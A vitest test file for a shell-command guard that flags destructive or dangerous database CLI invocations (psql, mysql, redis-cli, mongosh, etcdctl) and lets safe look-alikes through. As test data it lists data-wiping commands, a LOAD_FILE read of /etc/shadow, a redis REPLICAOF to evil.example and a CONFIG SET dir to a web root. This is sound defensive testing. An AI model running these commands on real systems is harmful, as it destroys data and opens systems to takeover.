import { describe, expect, it } from 'vitest';
import { type Case, familyTable } from './family-table.test-support.ts';
import { judgeArgv } from './index.ts';

const D = 'DEST_MUTATION';
const P = 'POLICY_VIOLATION';
const F = 'FILESYSTEM_DENIED';

describe('data stores: SQL CLIs through the SQL analyzer', () => {
  familyTable([
    ["psql -c 'DROP TABLE users'", D],
    ['psql -d prod -c "TRUNCATE orders"', D],
    ['psql postgresql://app@db/prod -c "DELETE FROM invoices"', D],
    ["psql -h db -U admin prod -c 'DROP SCHEMA public CASCADE'", D],
    ["psql --command='DROP DATABASE prod'", D],
    ["psql -c 'SELECT 1' -c 'DROP TABLE users'", D],
    ["mysql -e 'DROP DATABASE shop'", D],
    ['mysql -u root -psecret shop -e "TRUNCATE TABLE orders"', D],
    ['mysql -u root -p shop -e "TRUNCATE TABLE orders"', D],
    ['mariadb -e "DELETE FROM users"', D],
    ['mysql --execute="UPDATE accounts SET balance=0" bank', D],
    ['mysql -e"DROP TABLE t"', D],
    ['sqlcmd -S prod-sql -Q "DROP TABLE dbo.Users"', D],
    ['sqlcmd -S . -d Sales -q "TRUNCATE TABLE dbo.Orders"', D],
    ["sqlite3 app.db 'DROP TABLE users'", D],
    ['sqlite3 data/app.db "DELETE FROM events"', D],
    ["sqlite3 -cmd 'DELETE FROM events' app.db .quit", D],
    ["duckdb warehouse.duckdb 'DROP TABLE sales'", D],
    ['duckdb -c "DELETE FROM sales"', D],
    ['cockroach sql --url "$DB_URL" -e \'DROP DATABASE bank CASCADE\'', D],
    ["clickhouse-client -q 'DROP DATABASE analytics'", D],
    ['clickhouse-client --query "TRUNCATE TABLE events"', D],
    ["clickhouse client --query 'DROP TABLE events'", D],
    ["cqlsh -e 'DROP KEYSPACE prod'", D],
    ['cqlsh cass01 -e "TRUNCATE shop.orders"', D],
    ["cqlsh -e 'drop  keyspace prod'", D],
    ["psql -c 'GRANT ALL ON ALL TABLES IN SCHEMA public TO app'", P],
    ["psql -c 'ALTER TABLE users ADD COLUMN nickname text'", P],
    ['mysql -e "SELECT LOAD_FILE(\'/etc/shadow\')"', F],
    // Look-alikes: reads, narrowed deletes, meta-commands, dumps.
    ["psql -c 'SELECT count(*) FROM users'", null],
    ['psql -c "DELETE FROM sessions WHERE expires_at < now()"', null],
    ['psql -c "SELECT \'drop table users\' AS hint"', null],
    ['psql -c "\\dt"', null],
    ['psql -f migrations/001.sql', null],
    ["mysql -e 'SHOW TABLES' shop", null],
    ['mysql -e "UPDATE users SET active=0 WHERE id=42" shop', null],
    ['sqlcmd -Q "SELECT @@VERSION"', null],
    ["sqlite3 app.db '.tables'", null],
    ["sqlite3 app.db 'DELETE FROM cache WHERE key = 1'", null],
    ["cqlsh -e 'DESCRIBE KEYSPACES'", null],
    ["clickhouse-client -q 'SELECT 1'", null],
    ['pg_dump prod > backup.sql', null],
    ['mysqldump shop > shop.sql', null],
  ] satisfies Case[]);
});

describe('data stores: their own commands', () => {
  familyTable([
    ['dropdb prod', D],
    ['dropdb -h db.internal -U postgres --if-exists analytics', D],
    ['mysqladmin -u root drop shop -f', D],
    ['mysqladmin -uroot -psecret -f drop shop', D],
    ['redis-cli FLUSHALL', D],
    ['redis-cli flushall async', D],
    ['redis-cli FlushAll', D],
    ['redis-cli -h cache.internal -n 2 FLUSHDB', D],
    ['redis-cli -h h -p 1 FlushAll', D],
    ['redis-cli -n 0 flushall', D],
    ['redis-cli -u redis://cache:6379 FLUSHDB SYNC', D],
    ['redis-cli -c -h node1 --no-auth-warning flushall', D],
    ['valkey-cli FLUSHALL', D],
    ['/usr/local/bin/redis-cli FLUSHDB', D],
    ['redis-cli EVAL "redis.call(\'FLUSHALL\')" 0', D],
    ['redis-cli REPLICAOF evil.example 6379', D],
    ['redis-cli --scan | xargs redis-cli del', D],
    ["redis-cli --scan --pattern 'session:*' | xargs redis-cli DEL", D],
    ["mongosh --eval 'db.dropDatabase()'", D],
    ['mongosh prod --eval "db.users.drop()"', D],
    ["mongosh mongodb://db/prod --eval 'db.orders.deleteMany({})'", D],
    ["mongosh --eval 'db.orders.deleteMany( { } )'", D],
    ['mongo prod --eval \'db.getSiblingDB("billing").dropDatabase()\'', D],
    ["mongosh --quiet --eval 'db.sessions.remove({})'", D],
    ["mongosh --eval='db.runCommand({dropDatabase: 1})'", D],
    ["mongosh --eval 'db.orders.updateMany({}, {$set: {status: 0}})'", D],
    ['mongosh --eval \'db.getCollection("logs").drop()\'', D],
    ["mongosh --eval 'db.logs.dropCollection()'", D],
    ['mongorestore --drop --uri mongodb://db/prod dump/', D],
    ["etcdctl del --prefix ''", D],
    ['etcdctl del / --prefix', D],
    // Look-alikes.
    ['redis-cli GET k', null],
    ['redis-cli DEL session:123', null],
    ['redis-cli INFO keyspace', null],
    ['redis-cli CONFIG GET maxmemory', null],
    ['redis-cli --scan --pattern "user:*" | head', null],
    ['redis-cli KEYS "flushall*"', null],
    ['redis-cli BGSAVE', null],
    ['redis-cli REPLICAOF NO ONE', null],
    ["mongosh --eval 'db.users.countDocuments()'", null],
    ["mongosh --eval 'db.users.deleteOne({_id: 42})'", null],
    ['mongosh --eval \'db.users.dropIndex("email_1")\'', null],
    ['mongosh --eval \'db.orders.deleteMany({status: "cancelled"})\'', null],
    ['mongorestore --uri mongodb://db/staging dump/', null],
    ['etcdctl del /app/feature-x', null],
    ['etcdctl get / --prefix --keys-only', null],
    ['dropdb --help', null],
  ] satisfies Case[]);
});

describe('data stores: SQL on standard input', () => {
  it.each([
    [['psql', 'prod'], 'DROP TABLE users;', D],
    [['mysql', 'shop'], 'DELETE FROM orders;', D],
    [['sqlite3', 'app.db'], 'DROP TABLE t', D],
    [['sqlcmd', '-S', 'db'], 'TRUNCATE TABLE dbo.Orders', D],
    [['psql', 'prod'], 'SELECT 1', null],
    [['psql', '-f', 'x.sql', 'prod'], 'DROP TABLE users;', null],
  ] as const)('%j reading %s → %s', (argv, stdin, code) => {
    expect(judgeArgv(argv, undefined, stdin)[0]?.code ?? null).toBe(code);
  });
});

describe('data stores: restores that replace data', () => {
  familyTable([
    ['pg_restore --clean -d prod backups/prod.dump', D],
    ['pg_restore -c --dbname=prod backups/prod.dump', D],
    ['pg_restore -c -f out.sql backups/prod.dump', null],
    ['pg_restore -d staging backups/prod.dump', null],
    ['redis-cli CONFIG SET dir /var/www/html', 'POLICY_VIOLATION'],
  ] satisfies Case[]);
});
